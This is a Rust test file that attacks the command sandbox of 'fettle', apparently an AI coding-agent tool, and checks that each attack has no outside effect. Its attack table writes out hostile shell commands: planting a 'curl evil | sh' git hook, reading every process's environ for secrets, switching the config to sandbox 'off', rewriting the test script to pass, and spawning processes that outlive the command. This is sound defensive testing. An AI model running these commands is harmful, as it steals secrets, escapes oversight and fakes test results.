//! The sandbox for tests and commands, attacked: each row of the table is
//! something a hostile test or command tried (and some did, before), run
//! through the real code path (`exec::run` with the policy built from the
//! default configuration, `agent.sandbox = "auto"`, by the real `fettle
//! sandbox-exec`), and each check looks at the OUTSIDE effect (the file, the
//! listener, the process), not at the command's exit code. Positive rows:
//! the workspace, the private /tmp, `cargo test`, pytest and `node --test`
//! still work. Then full `fettle fix` runs: secrets in Fettle's own
//! environment, the config and git hooks, and a SIGKILLed `fettle fix`
//! whose test command's processes must die with it.
//!
//! `FETTLE_SANDBOX_TEST=none` (no runner: the plain `sh -c` of before),
//! `=off` (the runner, no confinement) or `=old` (an emulation of
//! the Landlock-only policy before namespaces: /tmp, /dev and ~/.cargo
//! writable, no protected paths) shows the attacks succeeding without it.
// In tests a panic is the failure report.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::agent_common;

use std::io::Read as _;
use std::net::{TcpListener, UdpSocket};
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use agent_common::{fettle_command, Mock};
use fettle::agent::exec::{run, CommandOutcome, CommandSpec};
use fettle::agent::sandbox::{self, SandboxPolicy};
use fettle::config::AgentConfig;
use fettle::mock::Script;
use serde_json::Value;
use tokio_util::sync::CancellationToken;

const LAUNCHER: &str = env!("CARGO_BIN_EXE_fettle");

/// The process-wide setup, done once: a fake `$HOME` with `.cargo/bin` and
/// `.cargo/registry` (the real toolchain stays reachable through
/// `CARGO_HOME`/`RUSTUP_HOME`), and no `CARGO_TARGET_DIR` (the tiny crate
/// builds in its own workspace).
struct Setup {
    home: PathBuf,
    real_cargo_home: PathBuf,
    _dir: tempfile::TempDir,
}

fn setup() -> &'static Setup {
    static SETUP: OnceLock<Setup> = OnceLock::new();
    SETUP.get_or_init(|| {
        // Changing HOME in the shared test process sent every server other
        // tests started meanwhile to install the embedded model into this
        // throwaway home (4 GB of /tmp per run, until the disk was full).
        assert!(
            crate::isolated::in_child(),
            "agent_sandbox tests change HOME: start each with `crate::isolated::alone!`"
        );
        let real_home = PathBuf::from(std::env::var_os("HOME").unwrap());
        let real_cargo_home = std::env::var_os("CARGO_HOME")
            .map(PathBuf::from)
            .unwrap_or_else(|| real_home.join(".cargo"));
        let real_rustup_home = std::env::var_os("RUSTUP_HOME")
            .map(PathBuf::from)
            .unwrap_or_else(|| real_home.join(".rustup"));
        let dir = tempfile::tempdir().unwrap();
        let home = dir.path().join("home");
        std::fs::create_dir_all(home.join(".cargo/bin")).unwrap();
        std::fs::create_dir_all(home.join(".cargo/registry")).unwrap();
        // Tests in this binary only read the environment after this point.
        std::env::set_var("HOME", &home);
        std::env::set_var("CARGO_HOME", &real_cargo_home);
        std::env::set_var("RUSTUP_HOME", &real_rustup_home);
        std::env::remove_var("CARGO_TARGET_DIR");
        Setup {
            home,
            real_cargo_home,
            _dir: dir,
        }
    })
}

/// A unique marker for this test process (processes, files, variables).
fn marker() -> String {
    format!("3000.{}", std::process::id())
}

/// One workspace (in a temp dir under the real /tmp) and its policy.
struct Fixture {
    temp: tempfile::TempDir,
    ws: PathBuf,
    policy: SandboxPolicy,
}

impl Fixture {
    fn outside(&self) -> &Path {
        self.temp.path()
    }
}

fn fixture(with_config: bool) -> Fixture {
    setup();
    let temp = tempfile::tempdir().unwrap();
    let ws = temp.path().join("ws");
    std::fs::create_dir_all(ws.join(".git/hooks")).unwrap();
    std::fs::create_dir_all(ws.join("vendor/lib/.git/hooks")).unwrap();
    std::fs::write(ws.join(".git/HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(ws.join("run_tests.sh"), "exit 1\n").unwrap();
    if with_config {
        std::fs::write(ws.join("fettle.toml"), "[agent]\nsandbox = \"auto\"\n").unwrap();
    }
    std::fs::write(temp.path().join("victim.txt"), "safe\n").unwrap();
    let ws = std::fs::canonicalize(&ws).unwrap();
    let config = AgentConfig::default();
    let prepared = sandbox::from_config_with(
        &config,
        &ws,
        Some("sh run_tests.sh"),
        PathBuf::from(LAUNCHER),
        &temp.path().join("cache/sandbox"),
    )
    .unwrap();
    let mut policy = prepared.policy;
    match std::env::var("FETTLE_SANDBOX_TEST").as_deref() {
        Ok("off") => policy = SandboxPolicy::unconfined(PathBuf::from(LAUNCHER)),
        Ok("old") => {
            policy.namespaces = false;
            policy.protect.clear();
            policy.tmp = None;
            let home = setup().home.clone();
            policy.writable.extend([
                std::env::temp_dir(),
                PathBuf::from("/dev"),
                home.join(".cargo"),
                setup().real_cargo_home.clone(),
            ]);
        }
        _ => {}
    }
    Fixture { temp, ws, policy }
}

async fn run_in(fx: &Fixture, command: &str) -> CommandOutcome {
    let mut spec = CommandSpec::new(command, &fx.ws);
    spec.timeout = Duration::from_secs(120);
    spec.sandbox = Some(fx.policy.clone());
    if std::env::var("FETTLE_SANDBOX_TEST").as_deref() == Ok("none") {
        // The code path before the runner: a plain `sh -c` in its group.
        spec.sandbox = None;
    }
    tokio::time::timeout(
        Duration::from_secs(180),
        run(&spec, &CancellationToken::new()),
    )
    .await
    .expect("run did not return")
    .expect("run did not start")
}

/// The listeners and the outside process the attacks aim at.
struct Targets {
    tcp: TcpListener,
    udp: UdpSocket,
    unix_path: PathBuf,
    unix: UnixListener,
    abstract_name: String,
    abstract_listener: UnixListener,
    /// An outside process with a secret in its environment.
    victim: Child,
    secret: String,
    _dir: tempfile::TempDir,
}

impl Targets {
    fn start() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let tcp = TcpListener::bind("127.0.0.1:0").unwrap();
        tcp.set_nonblocking(true).unwrap();
        let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
        udp.set_nonblocking(true).unwrap();
        let unix_path = dir.path().join("agent.sock");
        let unix = UnixListener::bind(&unix_path).unwrap();
        unix.set_nonblocking(true).unwrap();
        let abstract_name = format!("fettle-sandbox-test-{}", std::process::id());
        let abstract_listener = {
            use std::os::linux::net::SocketAddrExt as _;
            let addr = std::os::unix::net::SocketAddr::from_abstract_name(abstract_name.as_bytes())
                .unwrap();
            UnixListener::bind_addr(&addr).unwrap()
        };
        abstract_listener.set_nonblocking(true).unwrap();
        let secret = format!("sk-victim-{}", std::process::id());
        let victim = Command::new("sleep")
            .arg("120")
            .env("VICTIM_API_KEY", &secret)
            .stdin(Stdio::null())
            .spawn()
            .unwrap();
        Self {
            tcp,
            udp,
            unix_path,
            unix,
            abstract_name,
            abstract_listener,
            victim,
            secret,
            _dir: dir,
        }
    }

    /// What reached a listener since the last call, in words.
    fn received(&self) -> Vec<String> {
        let mut out = Vec::new();
        if let Ok((mut s, _)) = self.tcp.accept() {
            let mut buf = Vec::new();
            let _ = s.set_read_timeout(Some(Duration::from_millis(200)));
            let _ = s.read_to_end(&mut buf);
            out.push(format!(
                "TCP connection ({:?})",
                String::from_utf8_lossy(&buf)
            ));
        }
        let mut buf = [0u8; 64];
        if let Ok((n, _)) = self.udp.recv_from(&mut buf) {
            out.push(format!(
                "UDP datagram {:?}",
                String::from_utf8_lossy(&buf[..n])
            ));
        }
        if self.unix.accept().is_ok() {
            out.push("Unix path socket connection".to_owned());
        }
        if self.abstract_listener.accept().is_ok() {
            out.push("abstract Unix socket connection".to_owned());
        }
        out
    }

    fn victim_state(&self) -> char {
        let stat = std::fs::read_to_string(format!("/proc/{}/stat", self.victim.id())).unwrap();
        stat.rsplit(')')
            .next()
            .unwrap()
            .trim_start()
            .chars()
            .next()
            .unwrap()
    }
}

impl Drop for Targets {
    fn drop(&mut self) {
        let _ = self.victim.kill();
        let _ = self.victim.wait();
    }
}

/// Live processes whose command line contains `needle`.
fn processes_with(needle: &str) -> Vec<u32> {
    let me = std::process::id();
    std::fs::read_dir("/proc")
        .unwrap()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse::<u32>().ok())
        .filter(|&pid| pid != me)
        .filter(|pid| {
            let state = std::fs::read_to_string(format!("/proc/{pid}/stat")).unwrap_or_default();
            let zombie = state
                .rsplit(')')
                .next()
                .is_some_and(|s| s.trim_start().starts_with('Z'));
            let cmdline = std::fs::read(format!("/proc/{pid}/cmdline")).unwrap_or_default();
            !zombie && String::from_utf8_lossy(&cmdline).contains(needle)
        })
        .collect()
}

fn kill_all(pids: &[u32]) {
    for &pid in pids {
        // SAFETY: a plain kill of a test-owned process.
        unsafe {
            libc::kill(pid as i32, libc::SIGKILL);
        }
    }
}

type Check = Box<dyn Fn(&Fixture, &Targets, &CommandOutcome) -> Result<(), String>>;

struct Attack {
    name: &'static str,
    with_config: bool,
    command: String,
    /// `Err(what got through)`.
    check: Check,
}

fn unchanged(path: PathBuf, expected: &'static str) -> Check {
    Box::new(move |fx, _, _| {
        let path = fx.ws.join(&path);
        match std::fs::read_to_string(&path) {
            Ok(text) if text == expected => Ok(()),
            Ok(text) => Err(format!("{} now reads {text:?}", path.display())),
            Err(e) => Err(format!("{}: {e}", path.display())),
        }
    })
}

fn absent(path: impl Fn(&Fixture) -> PathBuf + 'static) -> Check {
    Box::new(move |fx, _, _| {
        let path = path(fx);
        match path.symlink_metadata() {
            Ok(_) => {
                let _ = std::fs::remove_file(&path);
                Err(format!("{} was created", path.display()))
            }
            Err(_) => Ok(()),
        }
    })
}

fn attacks() -> Vec<Attack> {
    let s = setup();
    let mark = marker();
    let bin_file = format!("fettle-attack-{}", std::process::id());
    let bin_file_2 = bin_file.clone();
    let mark_for_setsid = mark.clone();
    let mark_for_daemon = mark.clone();
    let shm_file = format!("/dev/shm/fettle-attack-{}", std::process::id());
    let shm_file_2 = shm_file.clone();
    let tmp_file = std::env::temp_dir().join(format!("fettle-attack-{}", std::process::id()));
    let tmp_file_2 = tmp_file.clone();
    vec![
        Attack {
            name: "write a file in the real /tmp (another project's)",
            with_config: false,
            command: format!(
                "echo pwned >> \"$(dirname \"$PWD\")/victim.txt\"; echo pwned > {}",
                tmp_file.display()
            ),
            check: Box::new(move |fx, _, _| {
                let victim = std::fs::read_to_string(fx.outside().join("victim.txt")).unwrap();
                if victim != "safe\n" {
                    return Err(format!("victim.txt now reads {victim:?}"));
                }
                if tmp_file_2.exists() {
                    let _ = std::fs::remove_file(&tmp_file_2);
                    return Err(format!("{} was created", tmp_file_2.display()));
                }
                Ok(())
            }),
        },
        Attack {
            name: "plant a binary in ~/.cargo/bin (on PATH)",
            with_config: false,
            command: format!(
                "echo evil > \"$HOME/.cargo/bin/{bin_file}\"; echo evil > \"$CARGO_HOME/bin/{bin_file}\""
            ),
            check: Box::new(move |_, _, _| {
                for dir in [s.home.join(".cargo/bin"), s.real_cargo_home.join("bin")] {
                    let path = dir.join(&bin_file_2);
                    if path.exists() {
                        let _ = std::fs::remove_file(&path);
                        return Err(format!("{} was created", path.display()));
                    }
                }
                Ok(())
            }),
        },
        Attack {
            name: "write to /dev/shm",
            with_config: false,
            command: format!("echo pwned > {shm_file}"),
            check: absent(move |_| PathBuf::from(&shm_file_2)),
        },
        Attack {
            name: "TCP to a listener on 127.0.0.1",
            with_config: false,
            command: "python3 -c \"import socket,sys; s=socket.create_connection(('127.0.0.1', int(sys.argv[1])), timeout=3); s.sendall(b'pwned')\" $TCP_PORT".to_owned(),
            check: Box::new(|_, _, _| Ok(())),
        },
        Attack {
            name: "UDP to a listener on 127.0.0.1",
            with_config: false,
            command: "python3 -c \"import socket,sys; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'pwned', ('127.0.0.1', int(sys.argv[1])))\" $UDP_PORT".to_owned(),
            check: Box::new(|_, _, _| Ok(())),
        },
        Attack {
            name: "connect to a Unix path socket (in /tmp)",
            with_config: false,
            command: "python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect(sys.argv[1]); s.sendall(b'pwned')\" $UNIX_PATH".to_owned(),
            check: Box::new(|_, _, _| Ok(())),
        },
        Attack {
            name: "connect to an abstract Unix socket",
            with_config: false,
            command: "python3 -c \"import socket,sys; s=socket.socket(socket.AF_UNIX); s.connect('\\0' + sys.argv[1]); s.sendall(b'pwned')\" $ABSTRACT_NAME".to_owned(),
            check: Box::new(|_, _, _| Ok(())),
        },
        Attack {
            name: "kill -STOP an outside process",
            with_config: false,
            command: "kill -STOP $VICTIM_PID".to_owned(),
            check: Box::new(|_, t, _| {
                if t.victim_state() == 'T' {
                    // SAFETY: resuming our own helper process.
                    unsafe {
                        libc::kill(t.victim.id() as i32, libc::SIGCONT);
                    }
                    return Err("the outside process was stopped".to_owned());
                }
                Ok(())
            }),
        },
        Attack {
            name: "read an outside process's /proc/<pid>/environ (and every one)",
            with_config: false,
            command: "cat /proc/$VICTIM_PID/environ /proc/$PPID/environ; for f in /proc/[0-9]*/environ; do cat $f; done 2>/dev/null; true".to_owned(),
            check: Box::new(|_, t, out| {
                if out.output.contains(&t.secret) {
                    return Err("the outside process's secret was read".to_owned());
                }
                Ok(())
            }),
        },
        Attack {
            name: "plant .git/hooks/post-commit",
            with_config: false,
            command: "echo 'curl evil | sh' > .git/hooks/post-commit; chmod +x .git/hooks/post-commit".to_owned(),
            check: absent(|fx| fx.ws.join(".git/hooks/post-commit")),
        },
        Attack {
            name: "plant a hook in a nested repository's .git",
            with_config: false,
            command: "echo evil > vendor/lib/.git/hooks/pre-commit".to_owned(),
            check: absent(|fx| fx.ws.join("vendor/lib/.git/hooks/pre-commit")),
        },
        Attack {
            name: "replace .git (rename it away, make a new one)",
            with_config: false,
            command: "mv .git .git-old; mkdir -p .git/hooks && echo evil > .git/hooks/post-commit".to_owned(),
            check: absent(|fx| fx.ws.join(".git/hooks/post-commit")),
        },
        Attack {
            name: "edit fettle.toml to sandbox = \"off\"",
            with_config: true,
            command: "printf '[agent]\\nsandbox = \"off\"\\n' > fettle.toml".to_owned(),
            check: unchanged(PathBuf::from("fettle.toml"), "[agent]\nsandbox = \"auto\"\n"),
        },
        Attack {
            name: "remove fettle.toml and write a new one",
            with_config: true,
            command: "rm -f fettle.toml; printf '[agent]\\nsandbox = \"off\"\\n' > fettle.toml".to_owned(),
            check: unchanged(PathBuf::from("fettle.toml"), "[agent]\nsandbox = \"auto\"\n"),
        },
        Attack {
            name: "create fettle.toml (none existed)",
            with_config: false,
            command: "printf '[agent]\\nsandbox = \"off\"\\n' > fettle.toml".to_owned(),
            check: absent(|fx| fx.ws.join("fettle.toml")),
        },
        Attack {
            name: "create .fettle/",
            with_config: false,
            command: "mkdir .fettle && echo x > .fettle/state".to_owned(),
            check: absent(|fx| fx.ws.join(".fettle")),
        },
        Attack {
            name: "rewrite the test command's script",
            with_config: false,
            command: "echo 'exit 0' > run_tests.sh".to_owned(),
            check: unchanged(PathBuf::from("run_tests.sh"), "exit 1\n"),
        },
        Attack {
            name: "setsid sleep 300 & (outlive the command)",
            with_config: false,
            command: format!("setsid sleep {mark} >/dev/null 2>&1 &"),
            check: Box::new(move |_, _, _| {
                let left = processes_with(&format!("sleep\0{mark_for_setsid}"));
                kill_all(&left);
                if left.is_empty() {
                    Ok(())
                } else {
                    Err(format!("{} process(es) left running", left.len()))
                }
            }),
        },
        Attack {
            name: "a double-forking daemon",
            with_config: false,
            command: format!(
                "python3 -c 'import os\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n        os.execvp(\"sleep\", [\"sleep\", \"{mark}\"])\n    os._exit(0)\nos.wait()' >/dev/null 2>&1"
            ),
            check: Box::new(move |_, _, _| {
                let left = processes_with(&format!("sleep\0{mark_for_daemon}"));
                kill_all(&left);
                if left.is_empty() {
                    Ok(())
                } else {
                    Err(format!("{} process(es) left running", left.len()))
                }
            }),
        },
    ]
}

/// Every attack of the table fails, judged by its outside effect.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn attacks_from_commands_have_no_effect_outside() {
    crate::isolated::alone!(attacks_from_commands_have_no_effect_outside);
    let targets = Targets::start();
    let vars = format!(
        "TCP_PORT={} UDP_PORT={} UNIX_PATH={} ABSTRACT_NAME={} VICTIM_PID={}; ",
        targets.tcp.local_addr().unwrap().port(),
        targets.udp.local_addr().unwrap().port(),
        targets.unix_path.display(),
        targets.abstract_name,
        targets.victim.id(),
    );
    let mut failures = Vec::new();
    for attack in attacks() {
        let fx = fixture(attack.with_config);
        let out = run_in(&fx, &format!("{vars}{}", attack.command)).await;
        let mut what = Vec::new();
        if let Err(e) = (attack.check)(&fx, &targets, &out) {
            what.push(e);
        }
        what.extend(targets.received());
        if !what.is_empty() {
            failures.push(format!(
                "{}: {}\n    output: {}",
                attack.name,
                what.join("; "),
                out.describe().replace('\n', "\n    ")
            ));
        }
    }
    assert!(
        failures.is_empty(),
        "{} attack(s) got through:\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// What must keep working under the sandbox.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_workspace_private_tmp_and_test_runners_work() {
    crate::isolated::alone!(the_workspace_private_tmp_and_test_runners_work);
    let fx = fixture(false);
    let out = run_in(&fx, "echo ok > inside.txt && echo t > /tmp/mine && cat /tmp/mine && echo \"$TMPDIR\" && echo s > \"$TMPDIR/other\"").await;
    assert!(out.success(), "{}", out.describe());
    assert_eq!(
        std::fs::read_to_string(fx.ws.join("inside.txt")).unwrap(),
        "ok\n"
    );
    // The private /tmp lasts for the task (the policy), not one command.
    let again = run_in(&fx, "cat /tmp/mine").await;
    assert!(again.output.contains('t'), "{}", again.describe());
    if fx.policy.namespaces {
        assert!(
            !Path::new("/tmp/mine").exists()
                || std::fs::read_to_string("/tmp/mine").unwrap() != "t\n",
            "the command wrote the real /tmp"
        );
        // Removed with the last clone of the policy.
        let tmp = fx.policy.tmp.as_ref().unwrap().path().to_path_buf();
        assert!(tmp.join("mine").exists());
        let Fixture { policy, .. } = fx;
        drop(policy);
        assert!(!tmp.exists(), "the private temp dir was not removed");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn cargo_test_runs_in_the_sandbox() {
    crate::isolated::alone!(cargo_test_runs_in_the_sandbox);
    if Command::new("cargo").arg("--version").output().is_err() {
        eprintln!("skipping: no cargo");
        return;
    }
    let fx = fixture(false);
    std::fs::create_dir_all(fx.ws.join("src")).unwrap();
    std::fs::write(
        fx.ws.join("Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    )
    .unwrap();
    std::fs::write(
        fx.ws.join("src/lib.rs"),
        "pub fn add(a: i32, b: i32) -> i32 { a + b }\n#[test]\nfn adds() { assert_eq!(add(1, 2), 3); }\n",
    )
    .unwrap();
    let out = run_in(&fx, "cargo test --offline 2>&1").await;
    assert!(out.success(), "{}", out.describe());
    assert!(out.output.contains("test result: ok"), "{}", out.output);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn pytest_and_node_run_in_the_sandbox() {
    crate::isolated::alone!(pytest_and_node_run_in_the_sandbox);
    let fx = fixture(false);
    if agent_common::have_pytest() {
        std::fs::write(
            fx.ws.join("test_a.py"),
            "import tempfile\n\ndef test_a():\n    with tempfile.NamedTemporaryFile() as f:\n        f.write(b'x')\n    assert 1 + 1 == 2\n",
        )
        .unwrap();
        let out = run_in(&fx, "python3 -m pytest -q -p no:cacheprovider test_a.py").await;
        assert!(out.success(), "{}", out.describe());
        assert!(out.output.contains("1 passed"), "{}", out.output);
    } else {
        eprintln!("skipping pytest: not installed");
    }
    if Command::new("node").arg("--version").output().is_ok() {
        std::fs::write(
            fx.ws.join("a.test.js"),
            "const test = require('node:test');\nconst assert = require('node:assert');\ntest('adds', () => assert.strictEqual(1 + 1, 2));\n",
        )
        .unwrap();
        let out = run_in(&fx, "node --test a.test.js").await;
        assert!(out.success(), "{}", out.describe());
    } else {
        eprintln!("skipping node: not installed");
    }
}

mod fallbacks;
mod fix_runs;
